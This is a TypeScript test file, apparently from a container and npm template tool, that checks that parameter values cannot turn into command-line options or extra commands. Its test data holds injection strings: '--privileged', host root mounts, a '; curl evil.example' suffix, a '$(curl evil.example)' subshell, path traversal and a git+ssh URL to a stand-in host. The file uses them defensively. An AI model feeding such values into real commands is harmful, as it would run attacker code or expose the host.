import { expect, test } from "vitest";
import { server } from "../../src/config/server.ts";
import { resolveImage } from "../../src/registry/index.ts";
import { faultOf, registryDeps, scratch } from "./deps.ts";

const options = ["--privileged", "--upload-pack=x", "-v/:/h", "--registry=http://evil.example"];

test.each([
  ...options.map((image) => ["image", { image }] as const),
  ...options.map((name) => ["npm", { package: name }] as const),
  ...options.map((version) => ["npm", { package: "x", version }] as const),
  ["npm", { package: "x", bin: "--eval" }],
  ["npm", { package: "x", version: "1.0.0; curl evil.example" }],
  ["npm", { package: "x$(curl evil.example)" }],
  ["npm", { package: "../../outside" }],
  ["npm", { package: "git+ssh://evil.example/x" }],
  ["image", { image: "../../containers/json?all=1" }],
] as const)(
  "A13 no parameter of template %s becomes an option or another command: %j",
  async (template, values) => {
    const deps = await registryDeps(await scratch());
    const fault = await faultOf(resolveImage(server.parse({ template, with: values }), deps));
    expect([fault.code, deps.lines]).toEqual(["TEMPLATE_INVALID", []]);
  },
);
